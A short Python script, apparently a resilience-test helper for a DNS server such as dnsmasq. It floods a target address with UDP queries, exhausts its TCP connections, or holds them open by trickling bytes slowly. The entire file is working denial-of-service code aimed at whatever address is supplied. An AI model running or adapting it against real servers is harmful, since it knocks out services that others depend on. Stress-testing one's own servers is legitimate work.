# SPDX-License-Identifier: GPL-3.0-or-later
"""Take places at a DNS server that others need: python3 dns_flood.py ADDRESS PORT datagrams|idle|slow.

datagrams  sends questions below silent.test, each for another name, as fast as it can; prints "ready" after the first
           thousand
idle       opens TCP connections until one is not served; prints how many it holds, and says nothing on them
slow       the same, and then says a byte at a time on each of them

It goes on until it is killed.
"""

from __future__ import annotations

import itertools
import signal
import socket
import struct
import sys
import threading
import typing as t

MOST = 400  # connections
_BATCH = 15  # less than a listening socket's queue of connections that dnsmasq has yet to accept
_OPEN_WITHIN = 0.8  # seconds, after one of which the kernel would repeat a packet that was dropped
_SERVED_WITHIN = 5.0
_PAUSE = 0.02


def question(name: str) -> bytes:
    """Return a question for an IPv4 address (RFC 1035 4.1)."""
    labels = b"".join(bytes((len(label),)) + label.encode() for label in name.split("."))
    return struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", 1, 1)


def send_datagrams(server: t.Any, family: int) -> None:
    """Send questions for ever."""
    with socket.socket(family, socket.SOCK_DGRAM) as wire:
        for number in itertools.count():
            wire.sendto(question(f"x{number}.silent.test"), server)
            if number == 1000:
                print("ready", flush=True)


def connect(server: t.Any, family: int) -> t.Iterator[socket.socket]:
    """Yield connections, until the server answers no more questions on a new one."""
    for number in range(1, MOST + 1):
        wire = socket.socket(family, socket.SOCK_STREAM)
        wire.settimeout(_OPEN_WITHIN)
        try:
            wire.connect(server)
            wire.settimeout(_SERVED_WITHIN)
            if number % _BATCH == 0:  # it is served after all those before it
                text = question("served.example.org")
                wire.sendall(struct.pack("!H", len(text)) + text)
                wire.recv(2)
        except socket.timeout:
            return
        yield wire


def main(address: str, port: int, kind: str) -> None:
    """Do what the kind says."""
    family, _type, _protocol, _name, server = socket.getaddrinfo(address, port)[0]
    if kind == "datagrams":
        send_datagrams(server, family)
    held = list(connect(server, family))
    print(len(held), flush=True)
    if kind == "idle":
        signal.pause()
    for byte in itertools.cycle(b"\x7f\xff\0"):
        for wire in held:
            try:
                wire.send(bytes((byte,)))
            except OSError:  # the server has enough of it
                held.remove(wire)
        threading.Event().wait(_PAUSE)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), sys.argv[3])
